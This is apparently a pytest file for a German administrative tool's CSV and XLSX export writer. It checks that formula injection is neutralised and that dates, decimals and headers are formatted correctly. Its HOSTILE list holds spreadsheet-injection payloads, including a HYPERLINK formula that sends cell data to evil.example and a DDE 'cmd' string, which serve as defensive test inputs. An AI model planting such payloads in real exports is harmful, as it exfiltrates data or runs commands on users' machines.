"""The export writer neutralises formulas in CSV and XLSX; numbers stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from govtool.core import exports

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A2,"Details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_csv_cells_that_start_a_formula_get_an_apostrophe_and_come_back(value):
    content = exports.to_csv(["title"], [[value]])
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert rows[1][0] == "'" + value
    assert exports.restore(rows[1][0]) == value


def test_xlsx_never_holds_a_formula_and_numbers_stay_numbers():
    content = exports.to_xlsx(["title", "n"], [[v, 3] for v in HOSTILE], sheet_title="T")
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    assert [sheet.cell(row=i + 2, column=1).value for i in range(len(HOSTILE))] == HOSTILE
    assert sheet.cell(row=2, column=2).value == 3 and sheet.cell(row=2, column=2).data_type == "n"


def test_plain_text_is_unchanged():
    assert exports.neutralise("Schülerzahlen 2025") == "Schülerzahlen 2025"
    assert exports.restore("'Zitat'") == "'Zitat'"


def test_excel_csv_is_semicolon_separated_utf8_with_bom_and_german_values(app):
    moment = dt.datetime(2026, 3, 4, 13, 30, tzinfo=dt.UTC)  # 14:30 in Berlin
    with app.test_request_context():
        content = exports.to_excel_csv(
            ["Titel", "Datum", "Zeitpunkt", "Anteil", "Aktiv", "Formel"],
            [["Schülerzahl; gesamt", dt.date(2025, 8, 1), moment, Decimal("0.5"), True, "=1+1"]],
        )
    assert content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert rows == [
        ["Titel", "Datum", "Zeitpunkt", "Anteil", "Aktiv", "Formel"],
        ["Schülerzahl; gesamt", "01.08.2025", "04.03.2026 14:30", "0,5", "ja", "'=1+1"],
    ]
    assert b"\r\n" in content


def test_technical_csv_keeps_iso_dates_and_commas():
    moment = dt.datetime(2026, 3, 4, 13, 30, tzinfo=dt.UTC)
    content = exports.to_csv(["d", "t"], [[dt.date(2025, 8, 1), moment]])
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert rows == [["d", "t"], ["2025-08-01", "2026-03-04T13:30:00+00:00"]]


def test_xlsx_dates_are_typed_header_frozen_and_filtered(app):
    moment = dt.datetime(2026, 3, 4, 13, 30, tzinfo=dt.UTC)  # openpyxl refuses aware datetimes
    with app.test_request_context():
        content = exports.to_xlsx(
            ["Titel", "Datum", "Zeitpunkt"],
            [["Ein recht langer Titel eines Eintrags", dt.date(2025, 8, 1), moment]] * 3,
            sheet_title="Katalog",
            extra_sheets=[("Hinweise", ["Spalte", "Hinweis"], [["Datum", "TT.MM.JJJJ"]])],
        )
    workbook = load_workbook(io.BytesIO(content))
    sheet = workbook["Katalog"]
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == "A1:C4"
    assert all(cell.font.bold for cell in sheet[1])
    date, when = sheet["B2"], sheet["C2"]
    assert date.is_date and date.number_format == "DD.MM.YYYY"
    assert date.value == dt.datetime(2025, 8, 1)
    assert when.is_date and when.value == dt.datetime(2026, 3, 4, 14, 30)  # Berlin wall time
    widths = {c: sheet.column_dimensions[c].width for c in "ABC"}
    assert widths["A"] > widths["B"] >= exports.MIN_WIDTH
    assert workbook["Hinweise"]["B2"].value == "TT.MM.JJJJ"


def test_xlsx_headers_wrap_between_words_only(app):
    with app.test_request_context():
        content = exports.to_xlsx(
            ["Datenbereitstellende Stelle", "Nr"], [["HAL", 1]], widths=[10, None]
        )
    sheet = load_workbook(io.BytesIO(content)).active
    # wider than asked: the longest word fits, so no word is split
    assert sheet.column_dimensions["A"].width >= len("Datenbereitstellende") + 2
    assert sheet.row_dimensions[1].height == 30  # two lines: "Datenbereitstellende" / "Stelle"
    assert sheet.print_title_rows == "$1:$1"
